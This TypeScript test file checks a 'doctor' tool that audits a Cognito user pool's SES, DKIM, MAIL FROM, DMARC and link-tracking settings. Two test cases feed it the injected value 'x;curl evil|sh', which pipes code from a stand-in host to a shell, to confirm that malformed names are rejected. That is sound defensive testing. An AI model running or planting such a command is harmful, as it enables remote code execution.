import type { JsonObject } from "cognito-links/attach";
import { describe, expect, it } from "vitest";
import { createSesAccess } from "../../src/attach/connect.ts";
import type { Finding } from "../../src/doctor/finding.ts";
import type { ResolveTxt } from "../../src/doctor/read-dmarc.ts";
import { readMail } from "../../src/doctor/read-mail.ts";
import type { PoolFacts } from "../../src/doctor/rule.ts";
import { rules } from "../../src/doctor/rules.ts";
import { credentials, region, type SesState, sesModel } from "./ses-model.ts";

const source = (identity: string): string =>
  `arn:aws:ses:${region}:123456789012:identity/${identity}`;
const mails = { EmailSendingAccount: "DEVELOPER", SourceArn: source("example.com") };
const from = "Team <team@mail.example.com>";
const pool = {
  Arn: `arn:aws:cognito-idp:${region}:123456789012:userpool/${region}_AbC123xyz`,
  AutoVerifiedAttributes: ["email"],
  EmailConfiguration: { ...mails, From: from, ConfigurationSet: "team-mails" },
};
const facts: PoolFacts = {
  pool,
  clients: [],
  hasEveryClient: true,
  trigger: `arn:aws:lambda:${region}:123456789012:function:mails`,
  expectedTrigger: undefined,
  invokePermission: "this-pool",
  isFunctionGone: false,
  functionConfiguration: undefined,
  reservedConcurrency: undefined,
  hostedDomain: false,
  place: { ours: "", aws: " --profile team" },
  ses: undefined,
  dmarc: undefined,
};
const unsigned = { SigningEnabled: true, Status: "PENDING", Tokens: ["a", "b", "c"] };
const mailFrom = {
  MailFromDomain: "bounce.example.com",
  MailFromDomainStatus: "SUCCESS",
  BehaviorOnMxFailure: "USE_DEFAULT_VALUE",
};
const noMailFrom = { BehaviorOnMxFailure: "USE_DEFAULT_VALUE" };
const proved = {
  IdentityType: "DOMAIN",
  VerifiedForSendingStatus: true,
  VerificationStatus: "SUCCESS",
  DkimAttributes: { SigningEnabled: true, Status: "SUCCESS", Tokens: ["a", "b", "c"] },
  MailFromAttributes: mailFrom,
};
const account = {
  ProductionAccessEnabled: true,
  SendingEnabled: true,
  EnforcementStatus: "HEALTHY",
  SendQuota: { Max24HourSend: 50_000, MaxSendRate: 14, SentLast24Hours: 12 },
  SuppressionAttributes: { SuppressedReasons: ["BOUNCE", "COMPLAINT"] },
};
const set = { ConfigurationSetName: "team-mails", SendingOptions: { SendingEnabled: true } };
const good: SesState = {
  account,
  identities: { "example.com": proved },
  configurationSets: { "team-mails": set },
  eventDestinations: { "team-mails": [destination("BOUNCE")] },
  suppressed: [],
  denied: [],
};
const reject = { "_dmarc.example.com": [["v=DMARC1; p=reject;", " rua=mailto:d@example.com"]] };

function destination(...MatchingEventTypes: string[]): object {
  return { Name: "bounces", Enabled: true, MatchingEventTypes };
}
const identity = (settings: object) => ({
  identities: { "example.com": { ...proved, ...settings } },
});
const vdm = {
  VdmEnabled: "ENABLED",
  DashboardAttributes: { EngagementMetrics: "ENABLED" },
};
const withoutVdm = { VdmOptions: { DashboardOptions: { EngagementMetrics: "DISABLED" } } };

interface World {
  readonly ses?: Partial<SesState>;
  readonly pool?: JsonObject;
  readonly dns?: Readonly<Record<string, readonly (readonly string[])[]>> | Error | null;
}

async function look({ ses = {}, pool: other = {}, dns = reject }: World): Promise<Finding[]> {
  const looked = { ...pool, ...other };
  const fetch = sesModel({ ...good, ...ses });
  const resolveTxt: ResolveTxt = async (name) => {
    if (dns instanceof Error) throw dns;
    const records = dns?.[name];
    if (records) return records;
    throw Object.assign(new Error(`queryTxt ENOTFOUND ${name}`), { code: "ENOTFOUND" });
  };
  const { unreadable, ...mail } = await readMail(looked, {
    ses: (place) => createSesAccess(place, credentials, fetch),
    resolveTxt: dns === null ? undefined : resolveTxt,
  });
  const found = rules.flatMap(({ name: rule, check }) =>
    check({ ...facts, pool: looked, ...mail }).map((finding) => ({ rule, ...finding })),
  );
  return [...unreadable, ...found];
}

const sending = (EmailConfiguration: object): JsonObject => ({ EmailConfiguration });

describe("the doctor's look at a mail's way", () => {
  it("finds nothing where SES, DKIM, MAIL FROM and DMARC are in order", async () => {
    expect(await look({})).toEqual([]);
  });

  it.each<[string, RegExp, World]>([
    [
      "problem ses-sandbox",
      /eu-west-1 is in its sandbox/,
      { ses: { account: { ...account, ProductionAccessEnabled: false } } },
    ],
    [
      "problem ses-paused",
      /sends nothing/,
      { ses: { account: { ...account, SendingEnabled: false, EnforcementStatus: "SHUTDOWN" } } },
    ],
    [
      "warning ses-paused",
      /under review/,
      { ses: { account: { ...account, EnforcementStatus: "PROBATION" } } },
    ],
    [
      "warning ses-quota",
      /sent 160 of the 200 mails/,
      { ses: { account: { ...account, SendQuota: { Max24HourSend: 200, SentLast24Hours: 160 } } } },
    ],
    ["problem ses-identity", /does not know .* example\.com/, { ses: { identities: {} } }],
    [
      "problem ses-identity",
      /not verified .*\(HOST_NOT_FOUND\)/,
      {
        ses: identity({
          VerifiedForSendingStatus: false,
          VerificationInfo: { ErrorType: "HOST_NOT_FOUND" },
        }),
      },
    ],
    ["problem configuration-set", /no SES configuration set/, { ses: { configurationSets: {} } }],
    [
      "problem configuration-set",
      /switched off/,
      {
        ses: {
          configurationSets: {
            "team-mails": { ...set, SendingOptions: { SendingEnabled: false } },
          },
        },
      },
    ],
    // Its MAIL FROM proves it, and the record lets it through.
    ["warning dkim", /records are PENDING/, { ses: identity({ DkimAttributes: unsigned }) }],
    [
      "warning dkim",
      /signing is off/,
      { ses: identity({ DkimAttributes: { ...unsigned, SigningEnabled: false } }) },
    ],
    ["note mail-from", /DKIM alone/, { ses: identity({ MailFromAttributes: noMailFrom }) }],
    [
      "warning mail-from",
      /bounce\.example\.com \(FAILED\): it takes a domain of Amazon's/,
      {
        ses: identity({ MailFromAttributes: { ...mailFrom, MailFromDomainStatus: "FAILED" } }),
      },
    ],
    [
      "problem mail-from",
      /\(PENDING\): it refuses/,
      {
        ses: identity({
          MailFromAttributes: {
            ...mailFrom,
            MailFromDomainStatus: "PENDING",
            BehaviorOnMxFailure: "REJECT_MESSAGE",
          },
        }),
      },
    ],
    ["warning dmarc", /^mail\.example\.com has no DMARC record/, { dns: {} }],
    [
      "warning dmarc",
      /example\.com has more than one/,
      { dns: { "_dmarc.example.com": [["v=DMARC1; p=none"], ["v=DMARC1; p=reject"]] } },
    ],
    [
      "problem dmarc",
      /example\.com asks receivers to quarantine/,
      {
        dns: { "_dmarc.example.com": [["v=DMARC1; p=none; sp=QUARANTINE; adkim=s; aspf=s"]] },
      },
    ],
    [
      "warning link-tracking",
      /team-mails tracks clicks/,
      { ses: { eventDestinations: { "team-mails": [destination("SEND", "CLICK", "OPEN")] } } },
    ],
    [
      "note link-tracking",
      /invisible image/,
      { ses: { eventDestinations: { "team-mails": [destination("OPEN")] } } },
    ],
    [
      "warning link-tracking",
      /Virtual Deliverability Manager/,
      { ses: { account: { ...account, VdmAttributes: vdm } } },
    ],
    [
      "warning link-tracking",
      /set everybody tracks clicks/,
      {
        pool: sending({ ...mails, From: from }),
        ses: {
          ...identity({ ConfigurationSetName: "everybody" }),
          configurationSets: { everybody: set },
          eventDestinations: { everybody: [destination("CLICK")] },
        },
      },
    ],
    ["note suppression", /^1 address is on/, { ses: { suppressed: ["BOUNCE"] } }],
    [
      "note suppression",
      /^More than 100 addresses are/,
      { ses: { suppressed: new Array(101).fill("COMPLAINT") } },
    ],
    // The address is verified by itself, which proves no domain.
    [
      "warning dkim",
      /verified in Amazon SES without its domain/,
      {
        dns: { "_dmarc.example.net": [["v=DMARC1; p=none"]] },
        pool: sending({ ...mails, SourceArn: source("me+you@example.net") }),
        ses: {
          identities: {
            "me+you@example.net": { ...proved, DkimAttributes: {}, IdentityType: "EMAIL_ADDRESS" },
          },
        },
      },
    ],
    [
      "warning cannot-read",
      /example\.com: it belongs to the account 210987654321/,
      {
        pool: sending({
          ...mails,
          SourceArn: source("example.com").replace(/\d{12}/, "210987654321"),
        }),
      },
    ],
    [
      "warning cannot-read",
      /names no identity/,
      { pool: sending({ ...mails, SourceArn: source("x;curl evil|sh") }) },
    ],
    [
      "warning link-tracking",
      /which could not be looked at/,
      { pool: sending({ ...mails, From: from, ConfigurationSet: "x;curl evil|sh" }) },
    ],
    [
      "warning cannot-read",
      /DMARC record of mail\.example\.com: queryTxt ETIMEOUT/,
      { dns: new Error("queryTxt ETIMEOUT _dmarc.mail.example.com") },
    ],
  ])("finds %s that says %s, and nothing else", async (finding, says, world) => {
    const found = await look(world);
    expect(found.map(({ severity, rule }) => `${severity} ${rule}`)).toEqual([finding]);
    expect(found[0]?.what).toMatch(says);
  });

  it.each<[string, World]>([
    [
      "a disabled destination's clicks",
      {
        ses: { eventDestinations: { "team-mails": [{ ...destination("CLICK"), Enabled: false }] } },
      },
    ],
    [
      "engagement metrics that the set turns off",
      {
        ses: {
          account: { ...account, VdmAttributes: vdm },
          configurationSets: { "team-mails": { ...set, ...withoutVdm } },
        },
      },
    ],
    [
      "suppression for a reason that does not count",
      {
        ses: {
          suppressed: ["COMPLAINT"],
          configurationSets: {
            "team-mails": { ...set, SuppressionOptions: { SuppressedReasons: ["BOUNCE"] } },
          },
        },
      },
    ],
    [
      "an address whose domain is verified",
      {
        pool: sending({ ...mails, SourceArn: source("team@mail.example.com") }),
      },
    ],
    [
      "an account without a quota",
      { ses: { account: { ...account, SendQuota: { Max24HourSend: -1, SentLast24Hours: 12 } } } },
    ],
    ["a missing record where DNS is not asked", { dns: null }],
    [
      "a sender of the team's own",
      {
        pool: { ...sending({}), LambdaConfig: {} },
        ses: { denied: ["ses:GetAccount"], identities: {} },
        dns: new Error("not asked"),
      },
    ],
  ])("finds nothing wrong with %s", async (_what, world) => {
    const found = await look(world);
    expect(found.filter(({ rule }) => rule !== "default-sender")).toEqual([]);
  });

  it("says what vanishes where a domain wants proof and nothing proves", async () => {
    const found = await look({
      ses: identity({ DkimAttributes: unsigned, MailFromAttributes: noMailFrom }),
    });
    expect(found.map(({ severity, rule }) => `${severity} ${rule}`)).toEqual([
      "warning dkim",
      "note mail-from",
      "problem dmarc",
    ]);
  });

  it("names all permissions that are missing at once, and is not a failure", async () => {
    const denied = ["ses:GetAccount", "ses:GetEmailIdentity", "ses:ListSuppressedDestinations"];
    const [first, ...others] = await look({
      ses: { denied: [...denied, "ses:GetConfigurationSetEventDestinations"] },
    });
    expect(first).toEqual({
      rule: "cannot-read",
      severity: "warning",
      what: "Could not read the SES account in eu-west-1, the SES identity example.com in eu-west-1, the configuration set team-mails in eu-west-1, the suppression list in eu-west-1: AccessDeniedException",
      fix: "Allow yourself `ses:GetAccount`, `ses:GetEmailIdentity` on the identity, and on its domain, `ses:GetConfigurationSet` and `ses:GetConfigurationSetEventDestinations` on this set, `ses:ListSuppressedDestinations`.",
    });
    expect(others).toEqual([
      expect.objectContaining({
        rule: "link-tracking",
        severity: "warning",
        what: expect.stringContaining("which could not be looked at"),
      }),
    ]);
  });

  it("asks in the region of the pool's SourceArn, and nobody twice who does not answer", async () => {
    const SourceArn = source("example.com").replace(region, "eu-south-1");
    const [first, ...others] = await look({ pool: sending({ ...mails, SourceArn }) });
    expect(first).toMatchObject({
      severity: "warning",
      what: expect.stringMatching(
        /SES account .*, the SES identity .*, the suppression list in eu-south-1: email\.eu-south-1\.amazonaws\.com gave no answer/,
      ),
      fix: "Check the network.",
    });
    expect(others).toEqual([]);
  });

  it("shows no suppressed address, and how to look for one", async () => {
    const found = await look({ ses: { suppressed: ["BOUNCE"] } });
    expect(JSON.stringify(found)).not.toContain("gone0");
    expect(found[0]?.fix).toMatch(
      /: aws sesv2 get-suppressed-destination --email-address ADDRESS --region eu-west-1 --profile team$/,
    );
  });
});
